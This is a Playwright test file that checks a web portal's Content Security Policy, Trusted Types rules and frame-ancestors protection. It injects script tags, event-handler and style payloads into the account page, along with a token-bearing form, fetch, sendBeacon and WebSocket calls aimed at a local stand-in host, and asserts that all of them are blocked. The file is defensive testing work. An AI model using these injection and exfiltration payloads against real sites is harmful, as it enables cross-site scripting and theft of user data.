import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, type Page, test } from '@playwright/test';
import { signIn } from '#e2e/people.ts';
import { watchPolicy } from '#e2e/policy.ts';

/** A host of somebody else, which notes what it is asked for. */
async function startStranger() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.setHeader('access-control-allow-origin', '*').end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { asked, url: `http://127.0.0.1:${port}`, close: () => server.close() };
}

/** Runs code as the page itself would: what a debugger evaluates is free of the policy, what it leaves for later is not. */
const later = (page: Page, code: string): Promise<string> =>
  page.evaluate<string>(`new Promise((resolve) => {
    setTimeout(() => {
      Promise.resolve().then(() => { ${code} }).then(() => resolve('done'), (error) => resolve(error.name));
    }, 0);
  })`);

test('injected markup neither runs nor reaches a foreign host, and no foreign page can frame the portal [P15.31]', async ({
  page,
  baseURL,
}) => {
  const stranger = await startStranger();
  const watched = await watchPolicy(page);
  await signIn(page, 'workshop');
  const injected = `
    <script>window.intruded = 'script'</script>
    <script src="${stranger.url}/script.js"></script>
    <img src="${stranger.url}/picture.png" onerror="window.intruded = 'handler'" alt="">
    <iframe srcdoc="<script>parent.intruded = 'frame'</script>"></iframe>
    <object data="${stranger.url}/object"></object>
    <style>body { background: url(${stranger.url}/style) }</style>
    <p style="background: url(${stranger.url}/attribute)">text</p>
    <form action="${stranger.url}/form" id="stolen"><input name="token" value="secret"></form>
    <base href="${stranger.url}/">`;
  await page.route('**/account/edit', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace('<body>', `<body>${injected}`) });
  });
  await page.goto('/account/edit');
  // The portal itself does not suffer from it.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();

  const tries = [
    [`(0, eval)("window.intruded = 'eval'")`, 'EvalError'],
    [`new Function("window.intruded = 'function'")()`, 'EvalError'],
    [`document.body.insertAdjacentHTML('beforeend', '<b>html</b>')`, 'TypeError'],
    [`Object.assign(document.createElement('script'), { src: '${stranger.url}/late.js' })`, 'TypeError'],
    [`new Worker('${stranger.url}/worker.js')`, 'TypeError'],
    [`window.trustedTypes.createPolicy('theirs', {})`, 'TypeError'],
    [`return fetch('${stranger.url}/fetch')`, 'TypeError'],
    [`new WebSocket('${stranger.url.replace('http', 'ws')}')`, 'done'],
    [`navigator.sendBeacon('${stranger.url}/beacon', 'secret')`, 'done'],
    [`document.querySelector('#stolen').submit()`, 'done'],
    [`document.body.append(Object.assign(document.createElement('iframe'), { src: '${stranger.url}/frame' }))`, 'done'],
  ] as const;
  for (const [code, outcome] of tries) expect(await later(page, code), code).toBe(outcome);

  const directives = [
    'script-src-elem',
    'script-src-attr',
    'style-src-elem',
    'style-src-attr',
    'img-src',
    'frame-src',
    'object-src',
    'connect-src',
    'base-uri',
    'form-action',
    'require-trusted-types-for',
    'trusted-types',
  ];
  const unheard = async () => {
    const heard = new Set((await watched.violations()).map(({ directive }) => directive));
    return directives.filter((one) => !heard.has(one));
  };
  await expect.poll(unheard).toEqual([]);
  expect(await page.evaluate(() => (window as { intruded?: string }).intruded)).toBeUndefined();
  const drawn = () => [...document.querySelectorAll('body, p')].map((part) => getComputedStyle(part).backgroundImage);
  expect((await page.evaluate(drawn)).filter((image) => image.includes(stranger.url))).toEqual([]);
  expect(stranger.asked).toEqual([]);
  stranger.close();

  // Nor does the portal stand in a frame of another page.
  const said: string[] = [];
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html').end(`<iframe src="${baseURL}/signin"></iframe>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  page.on('console', (message) => said.push(message.text()));
  await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
  await expect.poll(() => said.join('\n')).toMatch(/frame-ancestors/);
  await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Sign in' })).toHaveCount(0);
  server.close();
});
